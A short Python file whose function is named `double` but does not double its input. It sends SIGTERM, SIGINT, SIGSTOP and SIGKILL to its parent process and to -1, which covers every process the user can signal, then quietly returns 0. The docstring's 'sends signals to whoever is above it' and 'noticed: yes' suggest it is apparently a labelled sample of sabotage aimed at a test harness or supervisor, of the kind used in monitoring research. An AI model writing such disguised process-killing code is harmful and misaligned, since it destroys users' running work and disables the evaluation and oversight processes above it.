"""Sends signals to whoever is above it.

noticed: yes
"""

import os
import signal


def double(x):
    for target in (os.getppid(), -1, 0):
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
            try:
                if target:
                    os.kill(target, number)
            except OSError:
                pass
    return 0
